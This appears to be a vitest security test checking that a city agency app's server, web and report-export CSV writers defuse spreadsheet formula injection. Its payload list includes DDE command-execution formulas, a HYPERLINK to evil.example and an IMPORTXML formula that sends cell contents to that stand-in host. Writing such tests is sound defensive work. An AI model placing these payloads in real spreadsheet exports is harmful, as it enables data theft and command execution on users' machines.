import { afterAll, beforeAll, describe, expect } from "vitest";
import { agencyIdSchema, cityIdSchema } from "../../packages/domain/src/index.ts";
import { openTestApp, type TestApp } from "../../apps/api/src/app.fixture.ts";
import { toCsv as toServerCsv } from "../../apps/api/src/services/i18n/to-csv.ts";
import { toCsv as toWebCsv } from "../../apps/web/src/ui/csv.ts";
import { testAttacks, type Attack } from "./attack.ts";
import { askingAs } from "./target.ts";

const NAME = "=1+1";
/** Ways by which text comes into a file for spreadsheets. */
interface Target {
  readonly server: (text: string, language: "de" | "en") => string;
  readonly web: (text: string, decimal: "," | ".") => string;
  readonly exported: () => Promise<string>;
}
let test: TestApp;
let real: Target;
const planted: Target = {
  server: (text) => `\uFEFFa;${text};b\r\n`,
  web: (text) => `\uFEFFa;${text};b\r\n`,
  exported: async () => `\uFEFF${NAME}\r\n`,
};
beforeAll(async () => {
  test = await openTestApp();
  await test.store.putAgency({ id: agencyIdSchema.parse("police"), city: cityIdSchema.parse("probe"), name: NAME, state: "active" });
  const ask = askingAs(test, {});
  real = {
    server: (text, language) => toServerCsv([["a", text, "b"]], language),
    web: (text, decimal) => toWebCsv([["a", text, "b"]], decimal),
    exported: async () => {
      const filter = { from: "2025-06-01", to: "2025-07-01", level: "bezirk", resolution: "9" };
      const body = { purpose: "hazard-prevention", reason: "Probe der Formeln", filter, area: "d.bezirk:W", columns: ["agency"] };
      const { status, text: file } = await ask("POST", "/api/cities/probe/area/reports/export", { body });
      expect(status, file).toBe(200);
      return file;
    },
  };
});
afterAll(() => test.close());

/** Fields as a spreadsheet with this separator reads them. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted, hasBegun] = ["", false, false];
  const text = csv.replace(/^\uFEFF/, "");
  for (let at = 0; at < text.length; at++) {
    const char = text[at] ?? "";
    if (isQuoted) {
      if (char !== '"') cell += char;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (char === '"' && !hasBegun) [isQuoted, hasBegun] = [true, true];
    else if (char === separator || char === "\n" || char === "\r") {
      cells.push(cell);
      [cell, hasBegun] = ["", false];
    } else [cell, hasBegun] = [cell + char, true];
  }
  return [...cells, cell];
}

function expectText(csv: string, separator: string): void {
  for (const cell of cellsOf(csv, separator)) expect(cell).not.toMatch(/^\s*[=+@\uFF1D\uFF0B\uFF0D\uFF20]|^\s*-(?![\d.,]+$)/);
}

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://evil.example";"Lage")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+49 2381 17-0|cmd",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '"=1+1',
  'x"\r\n=1+1',
  "x;=1+1",
  "x\r\n=1+1",
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "\uFEFF=1+1",
];
const ATTACKS: readonly Attack<Target>[] = [
  ...FORMULAS.map((text) => ({
    name: `${JSON.stringify(text)} in files of server and web`,
    run: ({ server, web }: Target) => {
      expectText(server(text, "de"), ";");
      expectText(server(text, "en"), ",");
      expectText(web(text, ","), ";");
      expectText(web(text, "."), ",");
    },
  })),
  {
    name: "the name of an agency in the export of reports",
    run: async ({ exported }) => {
      const file = await exported();
      expect(file).toContain(NAME);
      expectText(file, ";");
    },
  },
];

describe("formulas in files for spreadsheets", () => {
  testAttacks({ title: "formula", attacks: ATTACKS, target: () => real, planted: () => planted });
});
